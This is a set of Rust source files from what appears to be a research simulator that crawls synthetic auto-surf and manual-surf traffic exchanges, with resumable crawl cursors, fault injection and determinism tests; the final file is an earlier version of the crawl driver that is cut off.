        let no_cursor = CrawlCheckpointState::from_body(1, "{\"not\":\"a record\"}\n");
        let (line, detail) = no_cursor.unwrap_err();
        assert_eq!(line, 1);
        assert!(detail.contains("before any #cursor"), "{detail}");

        let empty = CrawlCheckpointState::from_body(1, "");
        assert!(empty.unwrap_err().1.contains("no cursors"));

        let bad_cursor = CrawlCheckpointState::from_body(1, "#cursor {broken\n");
        assert!(bad_cursor.unwrap_err().1.contains("bad cursor"));
    }
}
