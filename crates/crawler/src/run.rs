//! Multi-exchange crawl orchestration.

use crossbeam::thread;

use slum_exchange::Exchange;
use slum_websim::SyntheticWeb;

use crate::drive::{crawl_exchange, CrawlConfig, CrawlStats};
use crate::store::RecordStore;

/// Crawls every exchange concurrently — one worker thread per exchange,
/// matching how the study ran independent sessions per service — and
/// merges the per-exchange stores into one.
///
/// `step_fn` decides how many pages to log on each exchange (Table I's
/// volumes differ by two orders of magnitude between auto and manual).
pub fn crawl_all<F>(
    web: &SyntheticWeb,
    exchanges: &mut [Exchange],
    base_seed: u64,
    step_fn: F,
) -> (RecordStore, Vec<(String, CrawlStats)>)
where
    F: Fn(&Exchange) -> u64 + Sync,
{
    let results: Vec<(RecordStore, String, CrawlStats)> = thread::scope(|scope| {
        let handles: Vec<_> = exchanges
            .iter_mut()
            .enumerate()
            .map(|(i, exchange)| {
                let step_fn = &step_fn;
                scope.spawn(move |_| {
                    let steps = step_fn(exchange);
                    let config = CrawlConfig {
                        steps,
                        seed: base_seed.wrapping_add(i as u64 * 7919),
                        ..Default::default()
                    };
                    let mut store = RecordStore::new();
                    let name = exchange.name().to_string();
                    let stats = crawl_exchange(web, exchange, &config, &mut store);
                    (store, name, stats)
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().expect("crawl worker panicked")).collect()
    })
    .expect("crawl scope panicked");

    let mut merged = RecordStore::new();
    let mut stats = Vec::with_capacity(results.len());
    for (store, name, s) in results {
        merged.extend(store.records().iter().cloned());
        stats.push((name, s));
    }
    (merged, stats)
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_exchange::setup::build_all_exchanges;
    use slum_exchange::ExchangeKind;
    use slum_websim::build::WebBuilder;

    #[test]
    fn parallel_crawl_covers_all_nine_exchanges() {
        let mut b = WebBuilder::new(130);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 20_000);
        let web = b.finish();
        let (store, stats) = crawl_all(&web, &mut exchanges, 42, |x| {
            match x.kind() {
                ExchangeKind::AutoSurf => 60,
                ExchangeKind::ManualSurf => 15,
            }
        });
        assert_eq!(stats.len(), 9);
        assert_eq!(store.len(), 5 * 60 + 4 * 15);
        assert_eq!(store.exchanges().len(), 9);
        for (name, s) in &stats {
            let expected = if name == "10KHits"
                || name == "ManyHits"
                || name == "Smiley Traffic"
                || name == "SendSurf"
                || name == "Otohits"
            {
                60
            } else {
                15
            };
            assert_eq!(s.pages, expected, "{name}");
        }
    }

    #[test]
    fn per_exchange_metrics_cover_all_nine() {
        let mut b = WebBuilder::new(132);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
        let web = b.finish();
        let (_, stats) = crawl_all(&web, &mut exchanges, 7, |_| 20);
        let mut merged = slum_obs::LocalMetrics::new();
        for (_, s) in &stats {
            merged.merge(&s.metrics);
        }
        assert_eq!(merged.count("crawl.pages"), 9 * 20);
        let per_exchange: Vec<&str> = merged
            .iter()
            .filter(|(name, _)| name.starts_with("crawl.steps."))
            .map(|(name, _)| name)
            .collect();
        assert_eq!(per_exchange.len(), 9, "{per_exchange:?}");
    }

    #[test]
    fn parallel_crawl_is_deterministic() {
        let run = || {
            let mut b = WebBuilder::new(131);
            let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
            let web = b.finish();
            let (store, _) = crawl_all(&web, &mut exchanges, 99, |_| 25);
            let mut urls: Vec<String> =
                store.records().iter().map(|r| format!("{}|{}", r.exchange, r.url)).collect();
            urls.sort();
            urls
        };
        assert_eq!(run(), run());
    }
}
