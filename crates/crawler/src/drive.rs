//! Auto-surf and manual-surf crawl drivers.
//!
//! The crawl loop is written once, as a *resumable segment driver*
//! ([`crawl_exchange_segment`]) over an explicit [`CrawlCursor`] that
//! holds every piece of loop state — surf slot, virtual clock, RNG
//! state, CAPTCHA nonce, stats and health counters. [`crawl_exchange`]
//! is a thin wrapper that runs one unbounded segment with an inert
//! lifecycle, so the historical fail-fast behaviour is bit-identical by
//! construction, while the resilience layer (`run::crawl_all_segmented`)
//! drives the same loop in bounded segments with a fault schedule and
//! checkpoints the cursor between them.

use rand::rngs::StdRng;
use rand::Rng;
use serde::{Deserialize, Serialize};

use slum_browser::Browser;
use slum_detect::retry::RetryPolicy;
use slum_exchange::antiabuse::{Admission, IpAddr, SessionPolicy, SessionTracker};
use slum_exchange::captcha::CaptchaOutcome;
use slum_exchange::economy::{EconomyConfig, Ledger};
use slum_exchange::lifecycle::{ExchangeLifecycle, LifecycleFaultKind};
use slum_exchange::{ExchangeKind, TrafficSource};
use slum_websim::rng::seeded;
use slum_websim::SyntheticWeb;

use crate::fault::CrawlHealth;
use crate::record::CrawlRecord;
use crate::store::RecordStore;

/// Virtual nanoseconds per virtual second.
const NANOS_PER_SEC: u64 = 1_000_000_000;

/// Configuration of one exchange crawl.
#[derive(Debug, Clone)]
pub struct CrawlConfig {
    /// Number of surf steps to log.
    pub steps: u64,
    /// RNG seed for this crawl.
    pub seed: u64,
    /// Virtual start time (seconds).
    pub start_time: u64,
    /// Scripted operator's CAPTCHA success rate (manual-surf only).
    pub captcha_skill: f64,
    /// Whether to capture page content into records (needed for the
    /// cloaking-defeating upload scans; costs memory).
    pub capture_content: bool,
}

impl Default for CrawlConfig {
    fn default() -> Self {
        CrawlConfig {
            steps: 500,
            seed: 1,
            start_time: 0,
            captcha_skill: 0.96,
            capture_content: true,
        }
    }
}

/// Outcome statistics of one crawl.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CrawlStats {
    /// Pages logged.
    pub pages: u64,
    /// CAPTCHAs failed (manual-surf).
    pub captcha_failures: u64,
    /// Page loads that failed (404/hop-limit).
    pub load_failures: u64,
    /// Credits earned (milli-credits).
    pub credits_earned_millis: i64,
    /// Observability counters for this crawl (`crawl.*` namespace),
    /// buffered per worker and merged into the study registry at phase
    /// end.
    pub metrics: slum_obs::LocalMetrics,
}

/// The complete resumable state of one exchange crawl.
///
/// A cursor plus the (deterministically rebuilt) exchange and web is
/// everything needed to continue a crawl from exactly where it stopped:
/// the surf-slot position, virtual clock, raw RNG state, the exchange's
/// CAPTCHA nonce, and every stat/health counter accumulated so far.
/// Serializes to one JSON object inside a checkpoint body.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CrawlCursor {
    /// Exchange name (checkpoint sections are matched back by name).
    pub exchange: String,
    /// Planned surf-slot budget for the whole crawl.
    pub steps: u64,
    /// Seed this crawl's RNG stream started from.
    pub seed: u64,
    /// Next surf slot (== records logged + slots lost so far).
    pub seq: u64,
    /// Virtual clock (seconds).
    pub t: u64,
    /// xoshiro256** state word 0.
    pub rng_s0: u64,
    /// xoshiro256** state word 1.
    pub rng_s1: u64,
    /// xoshiro256** state word 2.
    pub rng_s2: u64,
    /// xoshiro256** state word 3.
    pub rng_s3: u64,
    /// The exchange's CAPTCHA nonce at the cursor position.
    pub captcha_nonce: u64,
    /// Whether the crawl has consumed its whole slot budget.
    pub done: bool,
    /// Pages logged so far.
    pub pages: u64,
    /// CAPTCHAs failed so far.
    pub captcha_failures: u64,
    /// Failed page loads so far.
    pub load_failures: u64,
    /// Credits earned so far (milli-credits).
    pub credits_earned_millis: i64,
    /// Surf steps taken so far (pages + burned CAPTCHAs).
    pub surf_steps: u64,
    /// Redirect hops followed so far.
    pub redirects: u64,
    /// Surf steps that landed inside a paid-campaign burst.
    pub burst_steps: u64,
    /// Visits that went through a URL shortener.
    pub shortener_visits: u64,
    /// Surf slots lost to lifecycle faults.
    pub lost_steps: u64,
    /// Steps that ran into an outage window.
    pub outage_hits: u64,
    /// Steps that ran into an anti-abuse ban.
    pub ban_hits: u64,
    /// Steps that ran into a CAPTCHA lockout.
    pub captcha_lockouts: u64,
    /// Surf sessions dropped after a logged page.
    pub session_drops: u64,
    /// Total faults injected (failed attempts + session drops).
    pub faults_injected: u64,
    /// Retries issued against fault windows.
    pub retries: u64,
    /// Virtual backoff spent between attempts (nanoseconds).
    pub backoff_nanos: u64,
    /// Virtual seconds spent down (backoff + reconnects).
    pub downtime_secs: u64,
    /// Virtual second of the permanent shutdown, if one hit.
    pub shutdown_at: Option<u64>,
}

impl CrawlCursor {
    /// A cursor at the very start of a crawl of `source` under
    /// `config`.
    pub fn start<S: TrafficSource + ?Sized>(source: &S, config: &CrawlConfig) -> Self {
        let rng = seeded(config.seed);
        let s = rng.state();
        CrawlCursor {
            exchange: source.name().to_string(),
            steps: config.steps,
            seed: config.seed,
            seq: 0,
            t: config.start_time,
            rng_s0: s[0],
            rng_s1: s[1],
            rng_s2: s[2],
            rng_s3: s[3],
            captcha_nonce: source.captcha_nonce(),
            done: config.steps == 0,
            pages: 0,
            captcha_failures: 0,
            load_failures: 0,
            credits_earned_millis: 0,
            surf_steps: 0,
            redirects: 0,
            burst_steps: 0,
            shortener_visits: 0,
            lost_steps: 0,
            outage_hits: 0,
            ban_hits: 0,
            captcha_lockouts: 0,
            session_drops: 0,
            faults_injected: 0,
            retries: 0,
            backoff_nanos: 0,
            downtime_secs: 0,
            shutdown_at: None,
        }
    }

    /// Rebuilds the RNG at the cursor position.
    fn rng(&self) -> StdRng {
        StdRng::from_state([self.rng_s0, self.rng_s1, self.rng_s2, self.rng_s3])
    }

    fn save_rng(&mut self, rng: &StdRng) {
        let s = rng.state();
        self.rng_s0 = s[0];
        self.rng_s1 = s[1];
        self.rng_s2 = s[2];
        self.rng_s3 = s[3];
    }

    /// The crawl statistics accumulated so far, with the `crawl.*`
    /// observability counters the study merges at phase end.
    pub fn stats(&self) -> CrawlStats {
        let mut stats = CrawlStats {
            pages: self.pages,
            captcha_failures: self.captcha_failures,
            load_failures: self.load_failures,
            credits_earned_millis: self.credits_earned_millis,
            metrics: slum_obs::LocalMetrics::new(),
        };
        stats.metrics.add("crawl.pages", self.pages);
        stats.metrics.add("crawl.surf_steps", self.surf_steps);
        stats.metrics.add("crawl.redirects_followed", self.redirects);
        stats.metrics.add("crawl.burst_steps", self.burst_steps);
        stats.metrics.add("crawl.shortener_visits", self.shortener_visits);
        stats.metrics.add("crawl.captcha_failures", self.captcha_failures);
        stats.metrics.add("crawl.load_failures", self.load_failures);
        stats.metrics.add_owned(format!("crawl.steps.{}", self.exchange), self.surf_steps);
        stats
    }

    /// The per-exchange health log accumulated so far.
    pub fn health(&self) -> CrawlHealth {
        CrawlHealth {
            exchange: self.exchange.clone(),
            pages: self.pages,
            lost_steps: self.lost_steps,
            outage_hits: self.outage_hits,
            ban_hits: self.ban_hits,
            captcha_lockouts: self.captcha_lockouts,
            session_drops: self.session_drops,
            faults_injected: self.faults_injected,
            retries: self.retries,
            backoff_nanos: self.backoff_nanos,
            downtime_secs: self.downtime_secs,
            shutdown_at: self.shutdown_at,
        }
    }
}

/// Crawls one traffic source for `config.steps` logged pages, appending
/// records to `store`.
///
/// The procedure mirrors §III-A: register a brand-new account, open a
/// session (subject to anti-abuse checks), then either let the auto-surf
/// rotation run or click through manually, solving CAPTCHAs. Auto-surf
/// loads never simulate user clicks; the virtual clock advances by the
/// source's minimum surf time per page.
pub fn crawl_exchange<S: TrafficSource + ?Sized>(
    web: &SyntheticWeb,
    source: &mut S,
    config: &CrawlConfig,
    store: &mut RecordStore,
) -> CrawlStats {
    let mut cursor = CrawlCursor::start(source, config);
    let lifecycle = ExchangeLifecycle::inert(source.name());
    let retry = RetryPolicy::no_retries();
    crawl_exchange_segment(web, source, config, &lifecycle, &retry, &mut cursor, store, u64::MAX);
    cursor.stats()
}

/// Advances one traffic-source crawl by up to `budget` surf slots (logged
/// pages plus fault-lost slots), reading and writing all loop state
/// through `cursor`. Returns the number of slots consumed.
///
/// Lifecycle faults are consulted on the virtual clock before every
/// surf step: a permanent shutdown forfeits every remaining slot; a
/// temporary window (outage / ban / CAPTCHA lockout) goes through
/// `retry` — if backoff outlasts the window the step proceeds on the
/// advanced clock, otherwise the slot is recorded as lost and the crawl
/// degrades to the next slot. Session drops charge reconnect time after
/// a logged page. None of this touches the RNG stream, so a crawl under
/// an inert lifecycle is bit-identical to the historical fail-fast
/// loop, and fault decisions replay identically across resume
/// boundaries.
#[allow(clippy::too_many_arguments)] // the segment driver threads all crawl state explicitly
pub fn crawl_exchange_segment<S: TrafficSource + ?Sized>(
    web: &SyntheticWeb,
    source: &mut S,
    config: &CrawlConfig,
    lifecycle: &ExchangeLifecycle,
    retry: &RetryPolicy,
    cursor: &mut CrawlCursor,
    store: &mut RecordStore,
    budget: u64,
) -> u64 {
    debug_assert_eq!(cursor.exchange, source.name(), "cursor/source mismatch");
    let mut rng = cursor.rng();
    source.restore_captcha_nonce(cursor.captcha_nonce);

    // Fresh account, fresh session — the study's brand-new accounts.
    // The ledger holds no crawl-relevant state across segments (earning
    // always succeeds for an active account), so each segment opens its
    // own; earned credits accumulate in the cursor.
    let mut ledger = Ledger::new();
    let economy = EconomyConfig::default();
    let account = ledger.open_account();
    let mut sessions = SessionTracker::new(SessionPolicy::SingleSessionStrict);
    let crawler_ip = IpAddr::new(format!("crawler-{}", cursor.seed));
    let Admission::Granted { .. } = sessions.open_session(account, crawler_ip) else {
        // Fresh tracker + fresh account: admission cannot fail.
        unreachable!("fresh session must be admitted");
    };

    let manual = source.kind() == ExchangeKind::ManualSurf;
    let mut used = 0u64;

    while !cursor.done && used < budget {
        // Lifecycle gate: is the exchange reachable at this instant?
        if let Some(fault) = lifecycle.fault_at(cursor.t) {
            if fault.kind == LifecycleFaultKind::Shutdown {
                // Traffic-Monsoon case: the exchange is gone for good;
                // every remaining slot is lost.
                cursor.shutdown_at = lifecycle.shutdown_at();
                cursor.lost_steps += cursor.steps - cursor.seq;
                cursor.seq = cursor.steps;
                cursor.done = true;
                break;
            }
            match fault.kind {
                LifecycleFaultKind::Outage => cursor.outage_hits += 1,
                LifecycleFaultKind::Ban => cursor.ban_hits += 1,
                LifecycleFaultKind::CaptchaLockout => cursor.captcha_lockouts += 1,
                _ => {}
            }
            let key = format!("{}#{}", cursor.exchange, cursor.seq);
            let resolution = retry.resolve(
                &key,
                cursor.t.saturating_mul(NANOS_PER_SEC),
                fault.clears_at_secs.saturating_mul(NANOS_PER_SEC),
            );
            cursor.retries += u64::from(resolution.retries);
            cursor.faults_injected += u64::from(resolution.failed_attempts);
            cursor.backoff_nanos += resolution.backoff_nanos;
            let backoff_secs = resolution.backoff_nanos.div_ceil(NANOS_PER_SEC);
            cursor.t = cursor.t.saturating_add(backoff_secs);
            cursor.downtime_secs += backoff_secs;
            if !resolution.resolved {
                // The retry budget never outlasted the window: this
                // surf slot is lost; degrade to the next one.
                cursor.lost_steps += 1;
                cursor.seq += 1;
                used += 1;
                cursor.done = cursor.seq >= cursor.steps;
                continue;
            }
            // Resolved: the clock advanced past the window; surf now.
        }

        let step = source.next_step(cursor.t, &mut rng);
        cursor.surf_steps += 1;
        cursor.burst_steps += u64::from(step.campaign_boosted);

        // Manual-surf: solve the CAPTCHA first; a failure burns time but
        // logs nothing (the page never opens).
        if let Some(captcha) = &step.captcha {
            let outcome = if rng.gen_bool(config.captcha_skill) {
                debug_assert!(captcha.verify(captcha.answer()));
                CaptchaOutcome::Passed
            } else {
                CaptchaOutcome::Failed
            };
            if outcome == CaptchaOutcome::Failed {
                cursor.captcha_failures += 1;
                cursor.t += 5;
                continue;
            }
            // Human solve time.
            cursor.t += rng.gen_range(3..10);
        }

        let browser = Browser::new(web).at_time(cursor.t);
        let browser = if manual { browser } else { browser.without_click() };
        let load = browser.load(&step.url);
        if load.failed {
            cursor.load_failures += 1;
        }
        let mut record = CrawlRecord::from_load(&cursor.exchange, cursor.seq, cursor.t, &load);
        if !config.capture_content {
            record.content = None;
        }
        cursor.redirects += u64::from(record.redirect_hops);
        cursor.shortener_visits += u64::from(record.via_shortener);
        store.push(record);
        cursor.pages += 1;
        cursor.seq += 1;
        used += 1;

        if ledger.earn_view(account, &economy).is_ok() {
            cursor.credits_earned_millis += economy.earn_per_view_millis;
        }
        // Dwell for the required surf time (plus jitter for realism).
        cursor.t += step.min_surf_secs as u64 + rng.gen_range(0..5);

        // The surf session may drop after any logged page; reopening it
        // burns reconnect time but loses no slot. Keyed by the slot
        // just logged, so the decision replays across resume points.
        if lifecycle.drops_session(cursor.seq - 1) {
            cursor.session_drops += 1;
            cursor.faults_injected += 1;
            cursor.t = cursor.t.saturating_add(lifecycle.reconnect_secs());
            cursor.downtime_secs += lifecycle.reconnect_secs();
        }

        cursor.done = cursor.seq >= cursor.steps;
    }

    cursor.save_rng(&rng);
    cursor.captcha_nonce = source.captcha_nonce();
    used
}

/// Estimates the virtual duration a crawl of `steps` pages will span —
/// used to place campaign bursts before crawling starts.
pub fn estimated_duration_secs(profile: &slum_exchange::ExchangeProfile, steps: u64) -> u64 {
    // Average dwell = min surf + ~2s jitter (+ solve time for manual).
    let per_page = profile.min_surf_secs as u64
        + 2
        + if profile.kind == ExchangeKind::ManualSurf { 6 } else { 0 };
    steps * per_page
}

/// The same span estimate computed from a built [`TrafficSource`] (the
/// resilience layer compiles lifecycle schedules inside crawl workers,
/// where only the source itself is at hand).
pub fn estimated_exchange_span_secs<S: TrafficSource + ?Sized>(source: &S, steps: u64) -> u64 {
    let per_page = source.min_surf_secs() as u64
        + 2
        + if source.kind() == ExchangeKind::ManualSurf { 6 } else { 0 };
    steps * per_page
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_exchange::{build_exchange, params::profile};
    use slum_websim::build::WebBuilder;

    fn crawl(name: &str, steps: u64, seed: u64) -> (RecordStore, CrawlStats) {
        let mut b = WebBuilder::new(seed);
        let p = profile(name).unwrap();
        let span = estimated_duration_secs(p, steps);
        let mut x = build_exchange(&mut b, p, 0.05, span);
        let web = b.finish();
        let mut store = RecordStore::new();
        let stats = crawl_exchange(
            &web,
            &mut x,
            &CrawlConfig { steps, seed, ..Default::default() },
            &mut store,
        );
        (store, stats)
    }

    #[test]
    fn auto_surf_crawl_logs_requested_steps() {
        let (store, stats) = crawl("Otohits", 300, 7);
        assert_eq!(stats.pages, 300);
        assert_eq!(store.len(), 300);
        assert_eq!(stats.captcha_failures, 0, "auto-surf has no CAPTCHAs");
        assert!(stats.credits_earned_millis > 0);
    }

    #[test]
    fn manual_surf_crawl_fails_some_captchas() {
        let (store, stats) = crawl("Cash N Hits", 200, 8);
        assert_eq!(store.len(), 200);
        assert!(stats.captcha_failures > 0, "4% failure rate over 200+ attempts");
    }

    #[test]
    fn records_carry_exchange_name_and_monotone_time() {
        let (store, _) = crawl("ManyHits", 50, 9);
        let mut last = 0;
        for r in store.records() {
            assert_eq!(r.exchange, "ManyHits");
            assert!(r.at >= last);
            last = r.at;
        }
    }

    #[test]
    fn crawl_is_deterministic() {
        let (a, _) = crawl("Hit2Hit", 80, 10);
        let (b, _) = crawl("Hit2Hit", 80, 10);
        let urls_a: Vec<String> = a.records().iter().map(|r| r.url.canonical()).collect();
        let urls_b: Vec<String> = b.records().iter().map(|r| r.url.canonical()).collect();
        assert_eq!(urls_a, urls_b);
    }

    #[test]
    fn self_referrals_present_in_crawl() {
        let (store, _) = crawl("Otohits", 400, 11);
        let p = profile("Otohits").unwrap();
        let selfs =
            store.records().iter().filter(|r| r.url.host() == p.host).count();
        // Otohits self-refers >50% of the time.
        assert!(
            selfs as f64 / store.len() as f64 > 0.4,
            "Otohits self-referrals: {selfs}/{}",
            store.len()
        );
    }

    #[test]
    fn crawl_metrics_mirror_stats() {
        let (store, stats) = crawl("Cash N Hits", 120, 13);
        let m = &stats.metrics;
        assert_eq!(m.count("crawl.pages"), stats.pages);
        assert_eq!(m.count("crawl.captcha_failures"), stats.captcha_failures);
        assert_eq!(m.count("crawl.load_failures"), stats.load_failures);
        // Every logged page plus every burned CAPTCHA is one surf step.
        assert_eq!(m.count("crawl.surf_steps"), stats.pages + stats.captcha_failures);
        assert_eq!(m.count("crawl.steps.Cash N Hits"), m.count("crawl.surf_steps"));
        let redirects: u64 =
            store.records().iter().map(|r| u64::from(r.redirect_hops)).sum();
        assert_eq!(m.count("crawl.redirects_followed"), redirects);
    }

    #[test]
    fn content_capture_can_be_disabled() {
        let mut b = WebBuilder::new(12);
        let p = profile("Otohits").unwrap();
        let mut x = build_exchange(&mut b, p, 0.05, 10_000);
        let web = b.finish();
        let mut store = RecordStore::new();
        crawl_exchange(
            &web,
            &mut x,
            &CrawlConfig { steps: 20, capture_content: false, ..Default::default() },
            &mut store,
        );
        assert!(store.records().iter().all(|r| r.content.is_none()));
    }

    /// The segment driver with an inert lifecycle, stopped and resumed
    /// at arbitrary budgets, must reproduce the one-shot crawl exactly.
    #[test]
    fn segmented_crawl_matches_one_shot_bit_for_bit() {
        let steps = 90u64;
        let seed = 21u64;
        let one_shot = crawl("Cash N Hits", steps, seed);

        for segment in [1u64, 7, 32] {
            let mut b = WebBuilder::new(seed);
            let p = profile("Cash N Hits").unwrap();
            let span = estimated_duration_secs(p, steps);
            let mut x = build_exchange(&mut b, p, 0.05, span);
            let web = b.finish();
            let config = CrawlConfig { steps, seed, ..Default::default() };
            let lifecycle = ExchangeLifecycle::inert(x.name());
            let retry = RetryPolicy::no_retries();
            let mut cursor = CrawlCursor::start(&x, &config);
            let mut store = RecordStore::new();
            while !cursor.done {
                // Round-trip the cursor through JSON between segments —
                // exactly what a checkpoint/resume cycle does.
                let json = serde_json::to_string(&cursor).expect("cursor serializes");
                cursor = serde_json::from_str(&json).expect("cursor parses");
                crawl_exchange_segment(
                    &web, &mut x, &config, &lifecycle, &retry, &mut cursor, &mut store, segment,
                );
            }
            let stats = cursor.stats();
            assert_eq!(stats, one_shot.1, "stats diverged at segment budget {segment}");
            assert_eq!(
                store.to_jsonl().unwrap(),
                one_shot.0.to_jsonl().unwrap(),
                "records diverged at segment budget {segment}"
            );
            assert!(cursor.health().is_clean());
        }
    }

    /// A mid-window fault schedule degrades the crawl instead of
    /// aborting it: slots are lost, pages + lost always add up to the
    /// plan, and the whole thing is deterministic.
    #[test]
    fn faulted_crawl_degrades_and_balances_its_slots() {
        use slum_exchange::lifecycle::LifecycleParams;

        let run = || {
            let steps = 120u64;
            let seed = 31u64;
            let mut b = WebBuilder::new(seed);
            let p = profile("Otohits").unwrap();
            let span = estimated_duration_secs(p, steps);
            let mut x = build_exchange(&mut b, p, 0.05, span);
            let web = b.finish();
            let config = CrawlConfig { steps, seed, ..Default::default() };
            let params = LifecycleParams {
                outage_windows: 3,
                outage_secs: 200,
                session_drop_per_mille: 50,
                reconnect_secs: 20,
                ..LifecycleParams::reliable()
            };
            let lifecycle = ExchangeLifecycle::compile(&params, 77, x.name(), span);
            let retry = RetryPolicy { max_retries: 1, ..RetryPolicy::default() };
            let mut cursor = CrawlCursor::start(&x, &config);
            let mut store = RecordStore::new();
            crawl_exchange_segment(
                &web, &mut x, &config, &lifecycle, &retry, &mut cursor, &mut store, u64::MAX,
            );
            (cursor, store.to_jsonl().unwrap())
        };
        let (cursor, jsonl) = run();
        let health = cursor.health();
        assert_eq!(health.pages + health.lost_steps, 120, "slots must balance");
        assert!(health.outage_hits > 0, "three windows over the span must hit");
        assert!(health.faults_injected > 0);
        assert!(health.downtime_secs > 0);
        assert_eq!(cursor.pages as usize, jsonl.lines().count());
        let (cursor2, jsonl2) = run();
        assert_eq!(cursor, cursor2, "faulted crawl must be deterministic");
        assert_eq!(jsonl, jsonl2);
    }

    /// A scheduled shutdown forfeits the remaining slots and is
    /// recorded in the health log.
    #[test]
    fn shutdown_forfeits_remaining_slots() {
        use slum_exchange::lifecycle::LifecycleParams;

        let steps = 100u64;
        let seed = 41u64;
        let mut b = WebBuilder::new(seed);
        let p = profile("ManyHits").unwrap();
        let span = estimated_duration_secs(p, steps);
        let mut x = build_exchange(&mut b, p, 0.05, span);
        let web = b.finish();
        let config = CrawlConfig { steps, seed, ..Default::default() };
        let params =
            LifecycleParams { shutdown_per_mille: 1000, ..LifecycleParams::reliable() };
        let lifecycle = ExchangeLifecycle::compile(&params, 9, x.name(), span);
        let retry = RetryPolicy::no_retries();
        let mut cursor = CrawlCursor::start(&x, &config);
        let mut store = RecordStore::new();
        crawl_exchange_segment(
            &web, &mut x, &config, &lifecycle, &retry, &mut cursor, &mut store, u64::MAX,
        );
        let health = cursor.health();
        assert!(cursor.done);
        assert!(health.shutdown_at.is_some());
        assert!(health.pages < steps, "the back-half shutdown cuts the crawl short");
        assert!(health.lost_steps > 0);
        assert_eq!(health.pages + health.lost_steps, steps);
        assert_eq!(store.len() as u64, health.pages);
    }
}
