//! Auto-surf and manual-surf crawl drivers.

use rand::rngs::StdRng;
use rand::Rng;

use slum_browser::Browser;
use slum_exchange::antiabuse::{Admission, IpAddr, SessionPolicy, SessionTracker};
use slum_exchange::captcha::CaptchaOutcome;
use slum_exchange::economy::{EconomyConfig, Ledger};
use slum_exchange::{Exchange, ExchangeKind};
use slum_websim::rng::seeded;
use slum_websim::SyntheticWeb;

use crate::record::CrawlRecord;
use crate::store::RecordStore;

/// Configuration of one exchange crawl.
#[derive(Debug, Clone)]
pub struct CrawlConfig {
    /// Number of surf steps to log.
    pub steps: u64,
    /// RNG seed for this crawl.
    pub seed: u64,
    /// Virtual start time (seconds).
    pub start_time: u64,
    /// Scripted operator's CAPTCHA success rate (manual-surf only).
    pub captcha_skill: f64,
    /// Whether to capture page content into records (needed for the
    /// cloaking-defeating upload scans; costs memory).
    pub capture_content: bool,
}

impl Default for CrawlConfig {
    fn default() -> Self {
        CrawlConfig {
            steps: 500,
            seed: 1,
            start_time: 0,
            captcha_skill: 0.96,
            capture_content: true,
        }
    }
}

/// Outcome statistics of one crawl.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CrawlStats {
    /// Pages logged.
    pub pages: u64,
    /// CAPTCHAs failed (manual-surf).
    pub captcha_failures: u64,
    /// Page loads that failed (404/hop-limit).
    pub load_failures: u64,
    /// Credits earned (milli-credits).
    pub credits_earned_millis: i64,
    /// Observability counters for this crawl (`crawl.*` namespace),
    /// buffered per worker and merged into the study registry at phase
    /// end.
    pub metrics: slum_obs::LocalMetrics,
}

/// Crawls one exchange for `config.steps` logged pages, appending
/// records to `store`.
///
/// The procedure mirrors §III-A: register a brand-new account, open a
/// session (subject to anti-abuse checks), then either let the auto-surf
/// rotation run or click through manually, solving CAPTCHAs. Auto-surf
/// loads never simulate user clicks; the virtual clock advances by the
/// exchange's minimum surf time per page.
pub fn crawl_exchange(
    web: &SyntheticWeb,
    exchange: &mut Exchange,
    config: &CrawlConfig,
    store: &mut RecordStore,
) -> CrawlStats {
    let mut rng: StdRng = seeded(config.seed);
    let mut stats = CrawlStats::default();

    // Fresh account, fresh session — the study's brand-new accounts.
    let mut ledger = Ledger::new();
    let economy = EconomyConfig::default();
    let account = ledger.open_account();
    let mut sessions = SessionTracker::new(SessionPolicy::SingleSessionStrict);
    let crawler_ip = IpAddr::new(format!("crawler-{}", config.seed));
    let Admission::Granted { .. } = sessions.open_session(account, crawler_ip) else {
        // Fresh tracker + fresh account: admission cannot fail.
        unreachable!("fresh session must be admitted");
    };

    let exchange_name = exchange.name().to_string();
    let manual = exchange.kind() == ExchangeKind::ManualSurf;
    let mut t = config.start_time;
    let mut seq = 0u64;
    let mut redirects = 0u64;
    let mut burst_steps = 0u64;
    let mut shortener_visits = 0u64;
    let mut surf_steps = 0u64;

    while seq < config.steps {
        let step = exchange.next_step(t, &mut rng);
        surf_steps += 1;
        burst_steps += u64::from(step.campaign_boosted);

        // Manual-surf: solve the CAPTCHA first; a failure burns time but
        // logs nothing (the page never opens).
        if let Some(captcha) = &step.captcha {
            let outcome = if rng.gen_bool(config.captcha_skill) {
                debug_assert!(captcha.verify(captcha.answer()));
                CaptchaOutcome::Passed
            } else {
                CaptchaOutcome::Failed
            };
            if outcome == CaptchaOutcome::Failed {
                stats.captcha_failures += 1;
                t += 5;
                continue;
            }
            // Human solve time.
            t += rng.gen_range(3..10);
        }

        let browser = Browser::new(web).at_time(t);
        let browser = if manual { browser } else { browser.without_click() };
        let load = browser.load(&step.url);
        if load.failed {
            stats.load_failures += 1;
        }
        let mut record = CrawlRecord::from_load(&exchange_name, seq, t, &load);
        if !config.capture_content {
            record.content = None;
        }
        redirects += u64::from(record.redirect_hops);
        shortener_visits += u64::from(record.via_shortener);
        store.push(record);
        stats.pages += 1;
        seq += 1;

        if ledger.earn_view(account, &economy).is_ok() {
            stats.credits_earned_millis += economy.earn_per_view_millis;
        }
        // Dwell for the required surf time (plus jitter for realism).
        t += step.min_surf_secs as u64 + rng.gen_range(0..5);
    }

    // Buffer the crawl counters locally; the study merges them into its
    // registry once the (parallel) crawl phase ends.
    stats.metrics.add("crawl.pages", stats.pages);
    stats.metrics.add("crawl.surf_steps", surf_steps);
    stats.metrics.add("crawl.redirects_followed", redirects);
    stats.metrics.add("crawl.burst_steps", burst_steps);
    stats.metrics.add("crawl.shortener_visits", shortener_visits);
    stats.metrics.add("crawl.captcha_failures", stats.captcha_failures);
    stats.metrics.add("crawl.load_failures", stats.load_failures);
    stats.metrics.add_owned(format!("crawl.steps.{exchange_name}"), surf_steps);
    stats
}

/// Estimates the virtual duration a crawl of `steps` pages will span —
/// used to place campaign bursts before crawling starts.
pub fn estimated_duration_secs(profile: &slum_exchange::ExchangeProfile, steps: u64) -> u64 {
    // Average dwell = min surf + ~2s jitter (+ solve time for manual).
